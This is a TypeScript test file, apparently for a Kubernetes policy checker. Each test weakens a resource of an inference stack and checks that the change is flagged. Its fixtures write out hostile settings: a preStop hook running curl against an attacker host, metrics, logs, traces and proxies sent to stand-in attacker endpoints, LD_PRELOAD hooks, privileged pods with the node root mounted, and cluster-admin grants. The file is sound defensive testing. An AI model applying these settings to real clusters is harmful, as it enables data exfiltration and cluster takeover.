/* eslint-disable @typescript-eslint/no-explicit-any, @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-return, @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-argument --
   whoever weakens an object reaches into it at any depth, and each weakening is proven by the misfit that it causes */
import { beforeAll, describe, expect, test } from "vitest";
import { formatPath } from "../../policies/kit/path.ts";
import { ShapeJudge } from "../../policies/shapes/shapes.ts";
import type { World } from "../../policies/shapes/world.ts";
import type { ResourceRecord } from "../../preview/engine/resource-record.ts";
import { recordsOf } from "../holes/stack-records.ts";
import { stackResourceOf, worldOf } from "./misfits-in.ts";

/** Inputs of an object as plain data, of which a test knows the form. */
type Open = any;

let records: readonly ResourceRecord[] = [];
let world: World;
beforeAll(async () => {
    records = await recordsOf("hybrid-eu");
    world = worldOf("hybrid-eu", records);
});

/** Where an object does not fit, alone and with the stack. */
function misfitPaths(record: ResourceRecord): readonly string[] {
    const { declared, place } = world;
    const resource = stackResourceOf(record);
    const alone = new ShapeJudge({ declared, place });
    const together = new ShapeJudge(world);
    return [
        ...alone.misfits(resource.type, resource.inputs).filter(({ isRelation }) => !isRelation),
        ...together.misfits(resource.type, resource.inputs, resource).filter(({ isRelation }) => isRelation),
    ].map(({ path }) => formatPath(path));
}

function found(kind: string, name: RegExp): ResourceRecord {
    const record = records.find((each) => each.type.endsWith(`:${kind}`) && name.test(each.name));
    if (record === undefined) throw new Error(`hybrid-eu has no ${kind} ${String(name)}`);
    return record;
}

function changed(record: ResourceRecord, change: (inputs: Open) => void): ResourceRecord {
    const inputs = structuredClone(record.inputs) as Open;
    change(inputs);
    return { ...record, inputs, outputs: inputs };
}

const server = (inputs: Open) => inputs.spec.template.spec.containers[0];
const pod = (inputs: Open) => inputs.spec.template.spec;
const at = (path: string) => `spec.template.spec.${path}`;
const attacker = "collector.attacker.example";

/** [what, kind, name, how it is weakened, where that is found] */
const weakened: readonly (readonly [string, string, RegExp, (inputs: Open) => void, string])[] = [
    // Pods.
    ["shares the processes of its node", "Deployment", /^fleet/, (it) => (pod(it).hostPID = true), at("hostPID")],
    ["shares the network of its node", "Deployment", /^fleet/, (it) => (pod(it).hostNetwork = true), at("hostNetwork")],
    [
        "names hosts of its own",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).hostAliases = [{ ip: "203.0.113.7", hostnames: ["collector.monitoring.svc"] }]),
        at("hostAliases"),
    ],
    ["asks another name server", "Deployment", /^fleet/, (it) => (pod(it).dnsPolicy = "None"), at("dnsPolicy")],
    [
        "brings a name server",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).dnsConfig = { nameservers: ["10.100.0.53"] }),
        at("dnsConfig"),
    ],
    [
        "claims devices past the quota",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).resourceClaims = [{ name: "gpu" }]),
        at("resourceClaims"),
    ],
    [
        "may be root",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).securityContext.runAsNonRoot = false),
        at("securityContext.runAsNonRoot"),
    ],
    [
        "says nothing of whom it runs as",
        "Deployment",
        /^fleet/,
        (it) => delete pod(it).securityContext,
        at("securityContext"),
    ],
    [
        "is privileged",
        "Deployment",
        /^fleet/,
        (it) => (server(it).securityContext = { privileged: true }),
        at("containers[0].securityContext.privileged"),
    ],
    [
        "keeps a capability",
        "Deployment",
        /^fleet/,
        (it) => (server(it).securityContext.capabilities.add = ["NET_RAW"]),
        at("containers[0].securityContext.capabilities.add"),
    ],
    [
        "has a second container",
        "Deployment",
        /^fleet/,
        (it) => pod(it).containers.push({ ...server(it), name: "sidecar" }),
        at("containers"),
    ],
    [
        "mounts the root of its node",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).volumes[0] = { name: "root", hostPath: { path: "/" } }),
        at("volumes[0]"),
    ],
    [
        "mounts a file server",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).volumes[0] = { name: "nfs", nfs: { server: `nfs.${attacker}`, path: "/" } }),
        at("volumes[0]"),
    ],
    [
        "gets a token of the API server",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).automountServiceAccountToken = true),
        at("automountServiceAccountToken"),
    ],
    [
        "stands on the nodes of the way out",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).nodeSelector["ringfence/pool"] = "egress"),
        at('nodeSelector["ringfence/pool"]'),
    ],
    [
        "tolerates the nodes of the way out",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).tolerations[1].value = "egress"),
        at("tolerations[1].value"),
    ],
    [
        "tolerates every node",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).tolerations[1] = { operator: "Exists" }),
        at("tolerations[1]"),
    ],
    [
        "stands on a pool that is none of the stack",
        "Deployment",
        /^fleet/,
        (it) => (pod(it).nodeSelector["ringfence/pool"] = "other"),
        at('nodeSelector["ringfence/pool"]'),
    ],
    [
        "is probed at another host",
        "Deployment",
        /^fleet/,
        (it) => (server(it).readinessProbe.httpGet.host = attacker),
        at("containers[0].readinessProbe.httpGet.host"),
    ],
    [
        "runs a command when it ends",
        "Deployment",
        /^fleet/,
        (it) => (server(it).lifecycle.preStop = { exec: { command: ["curl", attacker] } }),
        at("containers[0].lifecycle.preStop"),
    ],
    [
        "has an image of a public registry",
        "Deployment",
        /^fleet/,
        (it) => (server(it).image = "docker.io/vllm/vllm-openai:latest"),
        at("containers[0].image"),
    ],
    [
        "belongs to the proxies of the way out by its labels",
        "Deployment",
        /^fleet/,
        (it) => (it.spec.template.metadata.labels["app.kubernetes.io/component"] = "proxy"),
        'spec.template.metadata.labels["app.kubernetes.io/component"]',
    ],
    // Variables of a model server.
    ...[
        ["HTTPS_PROXY", `proxy.${attacker}:3128`],
        ["LD_PRELOAD", "/scratch/hook.so"],
        ["PYTHONPATH", "/scratch"],
        ["VLLM_PLUGINS", "sender"],
        ["VLLM_ALLOW_RUNTIME_LORA_UPDATING", "1"],
        ["OTEL_EXPORTER_OTLP_ENDPOINT", `https://otlp.${attacker}`],
        ["RAY_ADDRESS", "203.0.113.7:6379"],
        ["VLLM_NIXL_SIDE_CHANNEL_HOST", "203.0.113.7"],
    ].map(
        ([name, value]) =>
            [
                `has the variable ${String(name)}`,
                "Deployment",
                /^fleet/,
                (it: Open) => server(it).env.push({ name, value }),
                at("containers[0].env"),
            ] as const,
    ),
    [
        "takes variables from elsewhere",
        "Deployment",
        /^fleet/,
        (it) => (server(it).envFrom = [{ configMapRef: { name: "x" } }]),
        at("containers[0].envFrom"),
    ],
    [
        "logs below INFO",
        "Deployment",
        /^fleet/,
        (it) => (server(it).env.find((each: Open) => each.name === "VLLM_LOGGING_LEVEL").value = "DEBUG"),
        at("containers[0].env[14].value"),
    ],
    ["may ask a hub", "Deployment", /^fleet/, (it) => server(it).env.splice(0, 1), at("containers[0].env")],
    // Arguments of a model server.
    ...[
        ["--config", "/etc/vllm/vllm.yaml"],
        ["--trust-remote-code"],
        ["--enable-log-requests"],
        ["--enable-log-outputs"],
        ["--middleware", "sender.Hook"],
        [`--otlp-traces-endpoint=http://${attacker}:4317`],
        ["--kv-transfer-config", JSON.stringify({ kv_connector: "P2pNcclConnector", kv_ip: "203.0.113.7" })],
        ["--data-parallel-address=203.0.113.7"],
        ["--enable-lora"],
        ["--allowed-media-domains", attacker],
        ["--max-log-len=1000"],
        ["--served-model-name=$(SECRET)"],
        ["--master-addr=$(LWS_LEADER_ADDRESS)"],
    ].map(
        (words) =>
            [
                `is told ${words.join(" ")}`,
                "Deployment",
                /^fleet/,
                (it: Open) => server(it).args.push(...words),
                at("containers[0].args"),
            ] as const,
    ),
    [
        "may write requests to its log",
        "Deployment",
        /^fleet/,
        (it) => (server(it).args = server(it).args.filter((word: string) => word !== "--max-log-len=0")),
        at("containers[0].args"),
    ],
    [
        "loads weights from elsewhere",
        "Deployment",
        /^fleet/,
        (it) => (server(it).args[0] = "s3://attacker-weights/llama/"),
        at("containers[0].args[0]"),
    ],
    [
        "runs something else",
        "Deployment",
        /^fleet/,
        (it) => (server(it).command = ["sh", "-c", "vllm serve"]),
        at("containers[0].command"),
    ],
    // Agents and what watches.
    [
        "mounts more of the node",
        "DaemonSet",
        /device-plugin/,
        (it) => (pod(it).volumes[0].hostPath.path = "/var/lib/kubelet"),
        at("volumes[0].hostPath.path"),
    ],
    [
        "writes to the pods' logs",
        "DaemonSet",
        /^audit-trail/,
        (it) => (server(it).volumeMounts[1].readOnly = false),
        at("containers[0].volumeMounts[1].readOnly"),
    ],
    [
        "may be written to from elsewhere",
        "StatefulSet",
        /prometheus/,
        (it) => server(it).args.push("--web.enable-remote-write-receiver"),
        at("containers[0].args"),
    ],
    [
        "keeps its metrics on a disk of another class",
        "StatefulSet",
        /prometheus/,
        (it) => (it.spec.volumeClaimTemplates[0].spec.storageClassName = "gp2"),
        "spec.volumeClaimTemplates[0].spec.storageClassName",
    ],
    [
        "gossips with a peer outside",
        "StatefulSet",
        /alertmanager/,
        (it) => (server(it).args[5] = `--cluster.peer=${attacker}:9094`),
        at("containers[0].args[5]"),
    ],
    [
        "finds scaling groups of another cluster",
        "Deployment",
        /^cluster-autoscaler/,
        (it) => (server(it).command[3] = server(it).command[3].replace("hybrid-eu", "other")),
        at("containers[0].command[3]"),
    ],
    [
        "asks EC2 of another region",
        "Deployment",
        /^cluster-autoscaler/,
        (it) => (server(it).env[0].value = "us-east-1"),
        at("containers[0].env[0].value"),
    ],
    // Files.
    [
        "ships audit lines abroad",
        "ConfigMap",
        /^audit-trail/,
        (it) => (it.data["shipper.yaml"] = it.data["shipper.yaml"].replaceAll("eu-central-1", "us-east-1")),
        'data["shipper.yaml"].pipeline.outputs[0].region',
    ],
    [
        "ships audit lines to a bucket",
        "ConfigMap",
        /^audit-trail/,
        (it) =>
            (it.data["shipper.yaml"] = it.data["shipper.yaml"].replace(
                "  outputs:\n",
                "  outputs:\n    - name: s3\n      match: unsorted\n      bucket: attacker-logs\n      region: eu-central-1\n",
            )),
        'data["shipper.yaml"].pipeline.outputs[0].name',
    ],
    [
        "ships audit lines to another host",
        "ConfigMap",
        /^audit-trail/,
        (it) =>
            (it.data["shipper.yaml"] = it.data["shipper.yaml"].replace(
                "      auto_create_group: false\n",
                `      auto_create_group: false\n      endpoint: logs.${attacker}\n`,
            )),
        'data["shipper.yaml"].pipeline.outputs[0].endpoint',
    ],
    [
        "ships audit lines to a group that nobody made",
        "ConfigMap",
        /^audit-trail/,
        (it) =>
            (it.data["shipper.yaml"] = it.data["shipper.yaml"].replace("/ringfence/hybrid-eu/audit/public", "/other")),
        'data["shipper.yaml"].pipeline.outputs[0].log_group_name',
    ],
    [
        "tells alerts to a pager",
        "ConfigMap",
        /alertmanager/,
        (it) =>
            (it.data["alertmanager.yml"] = it.data["alertmanager.yml"].replace(
                "    sns_configs:\n",
                "    pagerduty_configs:\n      - routing_key: abc\n    sns_configs:\n",
            )),
        'data["alertmanager.yml"].receivers[0].pagerduty_configs',
    ],
    [
        "tells alerts to a topic abroad",
        "ConfigMap",
        /alertmanager/,
        (it) =>
            (it.data["alertmanager.yml"] = it.data["alertmanager.yml"].replace(
                "region: eu-central-1",
                "region: us-east-1",
            )),
        'data["alertmanager.yml"].receivers[0].sns_configs[0].sigv4.region',
    ],
    [
        "writes metrics to another server",
        "ConfigMap",
        /^observability-prometheus/,
        (it) =>
            (it.data["prometheus.yml"] =
                `${it.data["prometheus.yml"] as string}remote_write:\n  - url: https://${attacker}/write\n`),
        'data["prometheus.yml"].remote_write',
    ],
    [
        "reads metrics of somebody else's",
        "ConfigMap",
        /^observability-prometheus/,
        (it) =>
            (it.data["prometheus.yml"] = it.data["prometheus.yml"].replace(
                "alertmanager-0.alertmanager-pods.monitoring.svc.cluster.local:9093",
                `${attacker}:9093`,
            )),
        'data["prometheus.yml"].alerting.alertmanagers[0].static_configs[0].targets[0]',
    ],
    [
        "has a file beside those of its program",
        "ConfigMap",
        /^audit-trail/,
        (it) => (it.data["script.lua"] = "os.execute()"),
        'data["script.lua"]',
    ],
    [
        "runs another script",
        "ConfigMap",
        /^fleet/,
        (it) => (it.data["fetch_weights.py"] = `${it.data["fetch_weights.py"] as string}\nimport urllib.request\n`),
        'data["fetch_weights.py"]',
    ],
    [
        "fetches weights from another bucket",
        "ConfigMap",
        /^fleet/,
        (it) =>
            (it.data["weights.json"] = it.data["weights.json"].replace(
                /"bucket": "[^"]+"/,
                '"bucket": "attacker-weights"',
            )),
        'data["weights.json"].bucket',
    ],
    [
        "leads readers of a dashboard elsewhere",
        "ConfigMap",
        /dashboard-models/,
        (it) =>
            (it.data["models.json"] = JSON.stringify({
                ...JSON.parse(it.data["models.json"]),
                links: [{ url: `https://${attacker}` }],
            })),
        'data["models.json"].links',
    ],
    // What the API server refuses.
    [
        "only watches",
        "ValidatingAdmissionPolicyBinding",
        /services-stay/,
        (it) => (it.spec.validationActions = ["Audit"]),
        "spec.validationActions[0]",
    ],
    [
        "refuses in some namespaces only",
        "ValidatingAdmissionPolicyBinding",
        /services-stay/,
        (it) => (it.spec.matchResources = { namespaceSelector: { matchLabels: { a: "b" } } }),
        "spec.matchResources",
    ],
    [
        "lets through what it cannot judge",
        "ValidatingAdmissionPolicy",
        /services-stay/,
        (it) => (it.spec.failurePolicy = "Ignore"),
        "spec.failurePolicy",
    ],
    [
        "asks for nothing",
        "ValidatingAdmissionPolicy",
        /services-stay/,
        (it) => (it.spec.validations[0].expression = "true"),
        "spec.validations[0].expression",
    ],
    [
        "leaves out a check",
        "ValidatingAdmissionPolicy",
        /services-stay/,
        (it) => it.spec.validations.pop(),
        "spec.validations",
    ],
    [
        "looks at other objects",
        "ValidatingAdmissionPolicy",
        /services-stay/,
        (it) => (it.spec.matchConstraints.resourceRules[0].resources = ["configmaps"]),
        "spec.matchConstraints.resourceRules[0].resources[0]",
    ],
    [
        "takes nodes of a region abroad",
        "ValidatingAdmissionPolicy",
        /node-jurisdiction/,
        (it) =>
            (it.spec.validations[1].expression = it.spec.validations[1].expression.replace(
                "'eu-central-1'",
                "'us-east-1'",
            )),
        "spec.validations[1].expression",
    ],
    // Rights.
    [
        "may do anything",
        "ClusterRole",
        /^cluster-autoscaler/,
        (it) => (it.rules[0] = { apiGroups: ["*"], resources: ["*"], verbs: ["*"] }),
        "rules[0].resources",
    ],
    [
        "may read secrets",
        "Role",
        /^observability-gateway/,
        (it) => it.rules.push({ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }),
        "rules",
    ],
    [
        "is for everybody",
        "ClusterRoleBinding",
        /^cluster-autoscaler/,
        (it) => (it.subjects[0] = { kind: "Group", name: "system:authenticated" }),
        "subjects[0].kind",
    ],
    [
        "gives the rights of an administrator",
        "ClusterRoleBinding",
        /^cluster-autoscaler/,
        (it) => (it.roleRef.name = "cluster-admin"),
        "roleRef.name",
    ],
    // Network, disks, namespaces.
    [
        "lets pods out to a public range",
        "NetworkPolicy",
        /^gateway-network-policy-front/,
        (it) => (it.spec.egress[0].to[0] = { ipBlock: { cidr: "203.0.113.0/24" } }),
        "spec.egress[0].to[0].ipBlock.cidr",
    ],
    [
        "lets pods out to everybody",
        "NetworkPolicy",
        /^gateway-network-policy-front/,
        (it) => delete it.spec.egress[0].to,
        "spec.egress[0].to",
    ],
    [
        "closes one direction only",
        "NetworkPolicy",
        /^gateway-network-policy-front/,
        (it) => (it.spec.policyTypes = ["Ingress"]),
        "spec.policyTypes",
    ],
    [
        "lets somebody in from outside",
        "NetworkPolicy",
        /^gateway-network-policy-front/,
        (it) => (it.spec.ingress[0].from[0] = { ipBlock: { cidr: "0.0.0.0/0" } }),
        "spec.ingress[0].from[0].ipBlock.cidr",
    ],
    [
        "opens the way out by another port",
        "NetworkPolicy",
        /^gateway-egress-network-policy-egress$/,
        (it) => (it.spec.egress[2].ports[0].port = 22),
        "spec.egress[2]",
    ],
    ["makes disks in clear", "StorageClass", /./, (it) => (it.parameters.encrypted = "false"), "parameters.encrypted"],
    [
        "makes disks without a word of encryption",
        "StorageClass",
        /./,
        (it) => delete it.parameters.encrypted,
        "parameters.encrypted",
    ],
    [
        "makes disks under a key of somebody else's",
        "StorageClass",
        /./,
        (it) => (it.parameters.kmsKeyId = "arn:aws:kms:us-east-1:999988887777:key/0"),
        "parameters.kmsKeyId",
    ],
    ["makes volumes of a file server", "StorageClass", /./, (it) => (it.provisioner = "nfs.csi.k8s.io"), "provisioner"],
    [
        "takes any pod",
        "Namespace",
        /namespace-models/,
        (it) => (it.metadata.labels["pod-security.kubernetes.io/enforce"] = "privileged"),
        'metadata.labels["pod-security.kubernetes.io/enforce"]',
    ],
    [
        "takes any pod for want of a word",
        "Namespace",
        /namespace-models/,
        (it) => delete it.metadata.labels["pod-security.kubernetes.io/enforce"],
        'metadata.labels["pod-security.kubernetes.io/enforce"]',
    ],
    ["gets a load balancer", "Service", /front-targets|entrance/, (it) => (it.spec.type = "LoadBalancer"), "spec"],
    [
        "is another name for a host outside",
        "Service",
        /^observability$/,
        (it) => (it.spec = { type: "ExternalName", externalName: attacker }),
        "spec.externalName",
    ],
    [
        "takes over addresses",
        "Service",
        /^observability$/,
        (it) => (it.spec.externalIPs = ["203.0.113.7"]),
        "spec.externalIPs",
    ],
    [
        "has a role by annotation",
        "ServiceAccount",
        /prometheus/,
        (it) => (it.metadata.annotations = { "eks.amazonaws.com/role-arn": "arn:aws:iam::999988887777:role/x" }),
        'metadata.annotations["eks.amazonaws.com/role-arn"]',
    ],
    [
        "lets the namespace have secrets",
        "ResourceQuota",
        /./,
        (it) => delete it.spec.hard["count/secrets"],
        'spec.hard["count/secrets"]',
    ],
    // Tokens that lie.
    ["is another kind than its type says", "PodDisruptionBudget", /./, (it) => (it.kind = "Pod"), "kind"],
    [
        "is of another version than its type says",
        "ConfigMap",
        /^audit-trail/,
        (it) => (it.apiVersion = "apps/v1"),
        "apiVersion",
    ],
];

describe("an object of the stack", () => {
    test.each(weakened)("that %s does not fit", (_, kind, name, weaken, path) => {
        const record = found(kind, name);
        expect(misfitPaths(record)).toEqual([]);
        const paths = misfitPaths(changed(record, weaken));
        expect(paths, paths.join()).not.toEqual([]);
        expect(
            paths.filter((found) => found.startsWith(path)),
            paths.join("; "),
        ).not.toEqual([]);
    });
});

describe("a Service with a load balancer", () => {
    const balancer = (): ResourceRecord =>
        changed(found("Service", /^observability$/), (it) => {
            it.metadata.annotations = { "service.beta.kubernetes.io/aws-load-balancer-scheme": "internal" };
            it.spec = {
                type: "LoadBalancer",
                loadBalancerClass: "service.k8s.aws/nlb",
                selector: it.spec.selector,
                ports: it.spec.ports,
            };
        });

    test("fits where class and scheme are those of an internal one", () => {
        expect(misfitPaths(balancer())).toEqual([]);
    });

    test.each([
        ["has no class", (it: Open) => delete it.spec.loadBalancerClass],
        ["has another class", (it: Open) => (it.spec.loadBalancerClass = "example")],
        ["has no scheme", (it: Open) => delete it.metadata.annotations],
        [
            "faces the internet",
            (it: Open) =>
                (it.metadata.annotations["service.beta.kubernetes.io/aws-load-balancer-scheme"] = "internet-facing"),
        ],
        [
            "keeps its log in a bucket that an annotation names",
            (it: Open) =>
                (it.metadata.annotations["service.beta.kubernetes.io/aws-load-balancer-attributes"] =
                    "access_logs.s3.enabled=true,access_logs.s3.bucket=attacker-logs"),
        ],
    ])("does not fit where it %s", (_, weaken) => {
        expect(misfitPaths(changed(balancer(), weaken)).length).toBeGreaterThan(0);
    });

    test("may be another name for a service of the cluster", () => {
        const alias = changed(found("Service", /^observability$/), (it) => {
            it.spec = { type: "ExternalName", externalName: "prometheus.monitoring.svc.cluster.local" };
        });
        expect(misfitPaths(alias)).toEqual([]);
    });
});
